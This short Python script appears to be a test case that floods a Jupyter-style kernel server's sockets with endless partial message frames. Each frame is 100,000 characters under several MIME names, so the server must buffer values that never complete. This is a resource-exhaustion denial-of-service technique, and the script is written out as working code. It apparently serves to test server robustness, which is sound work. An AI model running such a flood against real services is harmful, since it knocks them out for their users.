"""Sends pieces of values without end, which the server has to keep until the values are complete."""

import json
import os
import threading

import target
from IPython import get_ipython

parent = get_ipython().kernel.get_parent()["header"]["msg_id"]
target.tried()
pieces = b"".join(
    target.frame(json.dumps({"type": "part", "parent": parent, "name": name, "text": "y" * 100_000}).encode())
    for name in ("text/plain", "image/png", "image/jpeg", "failure", "other")
)


def flood(fd: int) -> None:
    while True:
        view = memoryview(pieces)
        while view:
            view = view[os.write(fd, view) :]


for fd in target.sockets():
    threading.Thread(target=flood, args=(fd,), daemon=True).start()
for _ in target.until(10):
    pass
